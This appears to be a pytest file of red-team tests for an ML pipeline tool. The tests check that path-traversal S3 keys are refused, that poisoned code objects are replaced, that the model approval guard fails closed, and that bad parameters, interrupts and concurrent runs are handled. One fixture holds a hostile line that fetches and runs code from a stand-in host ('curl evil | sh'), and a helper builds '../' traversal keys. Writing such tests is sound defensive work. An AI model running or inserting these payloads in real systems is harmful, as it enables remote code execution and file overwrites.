"""Red-team cases: untrusted S3 keys and code objects, guard bypasses, bad numbers, interrupts and concurrent runs."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from helpers import REGION, regula_here, rendered, run_folders, run_step

from pipelines.local.engine.jobs import ContainerJob
from pipelines.local.engine.runner import StepFailed
from pipelines.local.engine.s3 import download_prefix, ensure_bucket
from pipelines.local.layout import job_log, job_root
from pipelines.local.run import claim_run_dir, run_local
from steps.cloudwatch import MetricEmitter

BUCKET = "regula-artifacts"


def escaping_key(prefix: str, target: Path) -> str:
    return prefix + "../" * 16 + str(target).lstrip("/")


# -- S3 keys and code objects ---------------------------------------------------------------------------------------


@pytest.mark.slow
def test_an_s3_key_that_climbs_out_of_the_job_folder_is_refused(tmp_path, clients):
    s3 = clients["s3"]
    ensure_bucket(s3, BUCKET, REGION)
    s3.put_object(Bucket=BUCKET, Key="in/data.csv", Body=b"a,label\n1,0\n")
    key = escaping_key("in/x/", tmp_path / "escaped")
    s3.put_object(Bucket=BUCKET, Key=key, Body=b"pwned")
    with pytest.raises(ValueError, match="would be written outside"):
        download_prefix(s3, f"s3://{BUCKET}/in", tmp_path / "dest")
    assert not (tmp_path / "escaped").exists()

    # through a whole local run: the input prefix holds the crafted key, the run fails at Preprocess and names it
    report = run_local(params={"InputDataUri": f"s3://{BUCKET}/in"}, runs_dir=tmp_path / "runs", echo=lambda _: None)
    assert report["failed_step"] == "Preprocess" and key in report["failure_reason"]
    assert not (tmp_path / "escaped").exists()


def test_a_poisoned_code_object_is_replaced_before_any_job_runs_it(clients):
    s3 = clients["s3"]
    _, session = rendered()
    ensure_bucket(s3, BUCKET, REGION)
    assert session.push_uploads(s3) == len(session.uploads)
    train_key = next(k for k in session.uploads if k.endswith("/train.py"))
    s3.put_object(Bucket=BUCKET, Key=train_key, Body=b"import os; os.system('curl evil | sh')\n")
    assert session.push_uploads(s3) == 1
    assert s3.get_object(Bucket=BUCKET, Key=train_key)["Body"].read() == session.uploads[train_key]
    assert session.push_uploads(s3) == 0


# -- the approval guard fails closed --------------------------------------------------------------------------------


def package(sagemaker, status: str = "PendingManualApproval", **metadata: str) -> str:
    if not sagemaker.list_model_package_groups()["ModelPackageGroupSummaryList"]:
        sagemaker.create_model_package_group(ModelPackageGroupName="regula-models")
    recorded = {
        "regula:accepted": "true",
        "regula:gap": "0.05",
        "regula:gap_se": "0.01",
        "regula:max_gap": "0.1",
        "regula:quality_metric": "balanced_accuracy",
        "regula:val_quality": "0.9",
        "regula:baseline_quality": "0.5",
        "regula:min_lift": "0.05",
        "regula:min_quality": "0",
        **metadata,
    }
    return sagemaker.create_model_package(
        ModelPackageGroupName="regula-models",
        ModelApprovalStatus=status,
        InferenceSpecification={
            "Containers": [{"Image": "123.dkr.ecr.us-east-1.amazonaws.com/x:1", "ModelDataUrl": "s3://b/m.tar.gz"}],
            "SupportedContentTypes": ["text/csv"],
            "SupportedResponseMIMETypes": ["application/json"],
        },
        CustomerMetadataProperties={k: v for k, v in recorded.items() if v is not None},
    )["ModelPackageArn"]


@pytest.mark.parametrize(
    "metadata,message",
    [
        ({"regula:max_gap": None, "regula:gap": "0.9"}, "it has no recorded maximum gap"),
        ({"regula:max_gap": "abc"}, "it has no recorded maximum gap"),
        ({"regula:max_gap": "inf", "regula:gap": "5"}, "it has no recorded maximum gap"),
        ({"regula:gap": "NaN"}, "it has no recorded generalization gap"),
        ({"regula:val_quality": "0.01", "regula:baseline_quality": None}, "it has no recorded baseline quality"),
        ({"regula:val_quality": "0.52"}, "validation balanced_accuracy 0.5200 is under 0.5500"),
    ],
)
def test_missing_or_unparsable_policy_refuses_approval(metadata, message, clients):
    sagemaker = clients["sagemaker"]
    arn = package(sagemaker, **metadata)
    result = regula_here("models", "approve", arn)
    assert result.returncode == 3 and message in result.stderr, result.stderr
    assert sagemaker.describe_model_package(ModelPackageName=arn)["ModelApprovalStatus"] == "PendingManualApproval"


@pytest.mark.parametrize("max_gap", ["nan", "inf"])
def test_a_max_gap_that_is_not_a_number_is_refused(max_gap, clients):
    arn = package(clients["sagemaker"])
    result = regula_here("models", "approve", arn, "--max-gap", max_gap)
    assert result.returncode == 2 and "--max-gap must be a finite number" in result.stderr


def test_max_gap_option_only_tightens_the_recorded_policy(clients):
    arn = package(clients["sagemaker"], **{"regula:gap": "0.3"})
    result = regula_here("models", "approve", arn, "--max-gap", "5")
    assert result.returncode == 3 and "gap 0.3000 is above the maximum 0.1" in result.stderr


def test_a_rejected_package_needs_force_and_a_note(clients):
    sagemaker = clients["sagemaker"]
    arn = package(sagemaker, status="Rejected")
    result = regula_here("models", "approve", "latest")
    assert result.returncode == 3 and "it was rejected" in result.stderr
    assert regula_here("models", "approve", "latest", "--force").returncode == 2
    assert sagemaker.describe_model_package(ModelPackageName=arn)["ModelApprovalStatus"] == "Rejected"
    result = regula_here("models", "approve", "latest", "--force", "--note", "re-reviewed the curves")
    assert result.returncode == 0, result.stderr
    assert sagemaker.describe_model_package(ModelPackageName=arn)["ModelApprovalStatus"] == "Approved"


def test_the_policy_is_checked_before_already_approved(clients):
    package(clients["sagemaker"], status="Approved", **{"regula:gap": "0.08"})
    result = regula_here("models", "approve", "latest", "--max-gap", "0.05")
    assert result.returncode == 3 and "gap 0.0800 is above the maximum 0.05" in result.stderr
    assert "already Approved" not in result.stdout


def test_a_candidate_the_pipeline_did_not_accept_is_refused(clients):
    package(clients["sagemaker"], **{"regula:accepted": "false", "regula:decision": "candidate"})
    result = regula_here("models", "approve", "latest")
    assert result.returncode == 3
    assert "the pipeline did not accept it: it was registered as the best candidate, for review" in result.stderr
    status = clients["sagemaker"].list_model_packages(ModelPackageGroupName="regula-models")
    assert [p["ModelApprovalStatus"] for p in status["ModelPackageSummaryList"]] == ["PendingManualApproval"]


def test_the_guard_allows_a_gap_within_one_standard_error_as_the_evaluation_does(clients):
    within = package(clients["sagemaker"], **{"regula:gap": "0.105", "regula:gap_se": "0.01"})
    above = package(clients["sagemaker"], **{"regula:gap": "0.125", "regula:gap_se": "0.01"})
    assert regula_here("models", "approve", within).returncode == 0
    result = regula_here("models", "approve", above)
    assert result.returncode == 3
    assert "gap 0.1250 is above the maximum 0.1 by more than its standard error 0.0100" in result.stderr


def test_a_run_cannot_register_packages_as_approved_unless_rendered_to(tmp_path, clients):
    result = regula_here("run", "--local", "--param", "ModelApprovalStatus=Approved", "--runs-dir", str(tmp_path))
    assert result.returncode == 2
    assert "ModelApprovalStatus must be one of PendingManualApproval, got 'Approved'" in result.stderr
    assert list(tmp_path.iterdir()) == []


# -- numbers --------------------------------------------------------------------------------------------------------


def test_bad_numbers_are_refused_at_once_before_anything_starts(tmp_path, clients):
    result = regula_here(
        "run", "--local", "--runs-dir", str(tmp_path / "runs"),
        "--param", "L1=nan", "--param", "MaxGap=inf", "--param", "TrainingInstanceCount=0", "--param", "Dropout=0.9",
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "regula: error: TrainingInstanceCount must be a whole number between 1 and 100, got 0; "
        "Dropout must be a number in [0, 0.8), got 0.9; L1 must be a number >= 0, got nan; "
        "MaxGap must be a number in [0, 10], got inf"
    )
    assert not (tmp_path / "runs").exists()
    assert clients["s3"].list_buckets()["Buckets"] == [], "nothing was uploaded"


def test_the_first_step_refuses_bad_parameters_before_reading_data(tmp_path):
    result = run_step(
        "preprocess.py", "--input", str(tmp_path / "never-read.csv"), "--output-dir", str(tmp_path / "out"),
        "--check", "Patience=0", "--check", "QualityMetric=precision", env={"REGULA_METRICS": "off"},
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "ERROR preprocess: 2 problems: (1) Patience must be a whole number between 1 and 100000, got '0'; "
        "(2) QualityMetric must be one of auto, balanced_accuracy, accuracy, macro_f1, roc_auc, r2, got 'precision'"
    )


def test_start_refuses_a_mistyped_parameter_before_any_execution(clients):
    ensure_bucket(clients["s3"], BUCKET, REGION)
    assert regula_here("upsert").returncode == 0
    result = regula_here("start", "--param", "MaxEpochs=abc")
    assert result.returncode == 2
    assert result.stderr.strip() == "regula: error: pipeline parameter MaxEpochs must be Integer, got 'abc'"
    executions = clients["sagemaker"].list_pipeline_executions(PipelineName="regula")["PipelineExecutionSummaries"]
    assert executions == []


def test_a_nan_metric_costs_only_itself(clients, capfd):
    emitter = MetricEmitter("RegulaTest", {"Pipeline": "p"}, flush_interval=0.1)
    for _ in range(3):
        emitter.put("Gap", float("nan"))
    emitter.put("Loss", 0.5)
    emitter.close()
    names = {m["MetricName"] for m in clients["cloudwatch"].list_metrics(Namespace="RegulaTest")["Metrics"]}
    assert names == {"Loss"} and emitter.sent == 2  # both dimension sets of Loss
    assert capfd.readouterr().err.count("not sending Gap=nan") == 1


# -- processes and run folders --------------------------------------------------------------------------------------


def job_processes(run_dir: Path) -> list[int]:
    """Processes working inside the run folder: the jobs (each runs in its job's folder)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cwd = Path(os.readlink(entry / "cwd"))
            except OSError:
                continue
            if cwd.is_relative_to(run_dir):
                found.append(int(entry.name))
    return found


@pytest.mark.slow
def test_sigterm_to_regula_ends_its_running_job(tmp_path, aws):
    runs = tmp_path / "runs"
    process = subprocess.Popen(
        [sys.executable, "-m", "pipelines.cli", "run", "--local", "--runs-dir", str(runs), "-v",
         "--param", "MaxEpochs=100000", "--param", "Patience=100000", "--param", "MaxGap=5"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    seen = []
    for line in process.stdout:
        seen.append(line)
        if line.startswith("   | epoch 2:"):
            break
    (run_dir,) = run_folders(runs)
    assert job_processes(run_dir.resolve()), "the training job is running"
    process.send_signal(signal.SIGTERM)  # to regula alone, not its process group
    process.communicate(timeout=60)
    assert process.returncode == 130
    deadline = time.monotonic() + 10
    while job_processes(run_dir.resolve()) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert job_processes(run_dir.resolve()) == [], "no job outlives regula"


def test_a_job_past_its_max_runtime_is_stopped(tmp_path):
    run_dir = tmp_path / "run"
    job = ContainerJob("Sleepy", job_root(run_dir, "Sleepy"), job_log(run_dir, "Sleepy"), s3=None, env={})
    started = time.monotonic()
    with pytest.raises(StepFailed, match="stopped after MaxRuntimeInSeconds=1"):
        job.run_processes(
            [sys.executable, "-c", "import time; print('x', flush=True); time.sleep(60)"], {}, tmp_path, timeout=1
        )
    assert time.monotonic() - started < 20


def test_runs_started_together_get_their_own_folders(tmp_path):
    claimed, barrier = [], threading.Barrier(8)

    def claim():
        barrier.wait()
        claimed.append(claim_run_dir(tmp_path))

    threads = [threading.Thread(target=claim) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(claimed)) == 8 and all(path.is_dir() for path in claimed)


def test_an_unusable_runs_dir_is_a_one_line_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    result = regula_here("run", "--local", "--runs-dir", str(blocker / "runs"), env={"REGULA_METRICS": "off"})
    assert result.returncode == 6
    assert result.stderr.strip() == f"regula: error: cannot create a run folder in {blocker / 'runs'}: Not a directory"


def test_a_failed_rank_ends_the_others_at_once(tmp_path):
    from pipelines.local.engine.processes import run_processes

    # rank 0 fails at once; rank 1 would wait for it (as in a collective operation) for a minute
    script = "import os, sys, time; sys.exit(2) if os.environ['RANK'] == '0' else time.sleep(60)"
    started = time.monotonic()
    run = run_processes(
        [sys.executable, "-c", script], {}, tmp_path, tmp_path / "log", echo=lambda _: None, processes=2
    )
    assert run.exit_codes[0] == 2 and run.exit_codes[1] != 0
    assert time.monotonic() - started < 15


def test_an_object_planted_in_a_code_folder_is_removed(clients):
    s3 = clients["s3"]
    _, session = rendered()
    ensure_bucket(s3, BUCKET, REGION)
    session.push_uploads(s3)
    folder = next(k for k in session.uploads if k.endswith("/train.py")).rsplit("/", 1)[0]
    s3.put_object(Bucket=BUCKET, Key=f"{folder}/sitecustomize.py", Body=b"import os\n")
    sibling = f"{folder}sitecustomize.py"  # outside the folder ('<hash>sitecustomize.py'): not downloaded with it
    s3.put_object(Bucket=BUCKET, Key=sibling, Body=b"import os\n")
    assert session.push_uploads(s3) == 1
    keys = {o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=folder)["Contents"]}
    assert f"{folder}/sitecustomize.py" not in keys
    definition = rendered()[0]
    assert f'"s3://{BUCKET}/{folder}/"' in definition  # code inputs name the folder, '/' and all


def test_a_candidate_can_never_be_registered_as_approved():
    from steps.parameters import problems

    found = problems({"RegisterBestCandidate": "yes", "ModelApprovalStatus": "Approved"})
    assert found == [
        "RegisterBestCandidate=yes registers rounds that were not accepted: it cannot be combined with "
        "ModelApprovalStatus=Approved"
    ]
    assert problems({"RegisterBestCandidate": "yes", "ModelApprovalStatus": "PendingManualApproval"}) == []


def _write(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


def test_an_artifact_s_code_is_imported_from_the_artifact_alone_and_leaves_nothing_behind(tmp_path):
    """Evaluation and `regula predict` run the artifact's own serving code: its `steps` package, never this process's,
    whose modules are back in place afterwards, with nothing the artifact imported left loaded."""
    import steps.model
    from steps import serving_code

    ours = steps.model
    code = _write(tmp_path / "code", {
        "steps/__init__.py": "",
        "steps/inference.py": "from steps.model import WHO\nimport artifact_helper\nSOURCE = 'artifact'\n",
        "steps/model.py": "WHO = 'artifact model'\n",
        "artifact_helper.py": "",
    })  # fmt: skip
    modules = serving_code.import_artifact(code)
    assert modules["inference"].SOURCE == "artifact" and modules["inference"].WHO == "artifact model"
    assert sys.modules["steps.model"] is ours and "artifact_helper" not in sys.modules and str(code) not in sys.path

    # no steps/__init__.py: Python would take this process's package instead of a namespace folder; refused
    (code / "steps" / "__init__.py").unlink()
    with pytest.raises(FileNotFoundError, match="not a Regula model artifact"):
        serving_code.import_artifact(code)
    # a module the code imports that the artifact lacks is never taken from anywhere else
    (code / "steps" / "__init__.py").write_text("")
    (code / "steps" / "model.py").unlink()
    with pytest.raises(ImportError):
        serving_code.import_artifact(code)
    assert sys.modules["steps.model"] is ours


def test_an_artifact_packed_before_the_package_layout_still_loads(tmp_path):
    """Models registered before the `steps/` layout carry code/inference.py with siblings imported by bare names:
    `regula predict` still scores them, from their own files."""
    from steps import serving_code

    code = _write(tmp_path / "code", {"inference.py": "from model import WHO\n", "model.py": "WHO = 'old model'\n"})
    modules = serving_code.import_artifact(code)
    assert modules["inference"].WHO == "old model" and Path(modules["model"].__file__).parent == code.resolve()
    assert "inference" not in sys.modules and "model" not in sys.modules
